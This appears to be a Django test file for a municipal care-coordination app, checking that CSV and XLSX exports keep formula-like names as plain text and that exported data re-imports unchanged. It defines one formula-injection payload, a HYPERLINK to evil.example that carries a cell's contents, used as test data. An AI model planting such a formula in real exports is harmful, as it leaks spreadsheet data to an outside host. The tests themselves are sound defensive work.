"""Exports cannot attack whoever opens them: text that a spreadsheet would run as a formula is
text in every CSV and XLSX the system writes. Each file is written for real and opened back."""

import csv
import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from tsunagu.cases.tests.test_documents import case  # noqa: F401  (fixture)
from tsunagu.organizations.models import Center
from tsunagu.reports.tests.conftest import sample  # noqa: F401  (fixture)
from tsunagu.resources import exports, importing
from tsunagu.resources.models import Resource
from tsunagu.resources.tests.conftest import make_resource

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def xlsx_cells(response):
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def assert_text_not_formula(cells, text):
    found = [cell for cell in cells if cell.value == text]
    assert found, f"{text!r} not in the file"
    assert all(cell.data_type == "s" for cell in found)
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_resource_exports_keep_a_formula_name_as_text(staff_client, municipality):
    make_resource(municipality, ATTACK, provider_name="@提供者", capacity=20)
    rows = csv_rows(staff_client.get(reverse("resources:resource_export_csv")))
    record = dict(zip(exports.COLUMNS, rows[1], strict=True))
    assert record["名称"] == "'" + ATTACK and record["提供主体"] == "'@提供者"
    cells = xlsx_cells(staff_client.get(reverse("resources:resource_export_xlsx")))
    assert_text_not_formula(cells, ATTACK)
    assert_text_not_formula(cells, "@提供者")
    assert [c.value for c in cells if c.data_type == "n"] == [20]  # a number stays a number


def test_a_resource_export_goes_back_in_with_its_name_unchanged(
    staff_client, municipality, city_admin
):
    make_resource(municipality, ATTACK, description="-週1回")
    data = staff_client.get(reverse("resources:resource_export_csv")).content
    Resource.objects.all().delete()
    table = importing.read_table(data, "resources.csv")
    result = importing.parse_resources(table, municipality=municipality)
    assert result.ok, [str(p) for p in result.problems]
    importing.import_resources(result, municipality=municipality, by=city_admin)
    resource = Resource.objects.get()
    assert (resource.name, resource.description) == (ATTACK, "-週1回")


def test_schedule_matrix_exports_keep_a_formula_center_as_text(city_client, sample):  # noqa: F811
    Center.objects.filter(pk=sample["center"].pk).update(name=ATTACK)
    params = {"fy": 2021}
    rows = csv_rows(
        city_client.get(reverse("reports:schedule_matrix"), {**params, "format": "csv"})
    )
    assert [row[0] for row in rows if ATTACK in row[0]] == ["'" + ATTACK]
    response = city_client.get(reverse("reports:schedule_matrix"), {**params, "format": "xlsx"})
    assert_text_not_formula(xlsx_cells(response), ATTACK)


def test_the_work_list_export_keeps_a_formula_center_as_text(staff_client, case):  # noqa: F811
    Center.objects.filter(pk=case.center_id).update(name=ATTACK)
    assert_text_not_formula(xlsx_cells(staff_client.get(reverse("cases:case_list_xlsx"))), ATTACK)


def test_the_city_meeting_documents_keep_a_formula_title_as_text(city_client, municipality):
    from tsunagu.issues.tests.conftest import new_issue

    new_issue(municipality, ATTACK, theme="買い物・配食", level="city")
    cells = xlsx_cells(city_client.get(reverse("issues:city_documents_xlsx")))
    assert_text_not_formula(cells, ATTACK)


def test_the_screening_result_keeps_a_formula_office_name_as_text(city_client, settings):
    path = settings.BASE_DIR / "data" / "samples" / "benefit_data_2021_10.csv"
    rows = csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))
    buffer = io.StringIO()
    csv.writer(buffer).writerows(
        [ATTACK if cell == "松風ケアプランセンター" else cell for cell in row] for row in rows
    )
    response = city_client.post(
        reverse("cases:screening"),
        {"file": SimpleUploadedFile("b.csv", buffer.getvalue().encode()), "month": "令和3年10月"},
    )
    assert ATTACK in response.content.decode().replace("&quot;", '"').replace("&amp;", "&")
    cells = xlsx_cells(city_client.get(reverse("cases:screening_xlsx")))
    assert_text_not_formula(cells, ATTACK)
